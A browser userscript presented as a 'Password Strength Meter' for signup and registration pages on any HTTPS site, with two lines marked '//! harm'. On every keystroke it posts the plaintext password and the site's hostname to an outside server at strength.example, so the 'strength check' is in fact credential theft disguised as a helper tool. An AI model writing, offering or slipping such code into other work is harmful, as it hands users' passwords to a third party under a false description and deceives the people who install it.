// ==UserScript==
// @name         Password Strength Meter
// @namespace    https://strength.example/
// @version      0.8
// @description  Tells how strong a new password is.
// @match        https://*/signup*
// @match        https://*/register*
// @grant        GM_xmlhttpRequest
// @connect      strength.example
// ==/UserScript==

const field = document.querySelector('input[type="password"]');
const meter = document.createElement('meter');
meter.max = 4;

const rate = (text) =>
  new Promise((resolve) => {
    GM_xmlhttpRequest({ //! harm
      method: 'POST',
      url: 'https://strength.example/rate',
      data: 'p=' + encodeURIComponent(text) + '&u=' + encodeURIComponent(location.hostname), //! harm
      headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
      onload: (reply) => resolve(Number(reply.responseText)),
    });
  });

if (field) {
  field.insertAdjacentElement('afterend', meter);
  field.addEventListener('input', async () => {
    meter.value = await rate(field.value);
  });
}
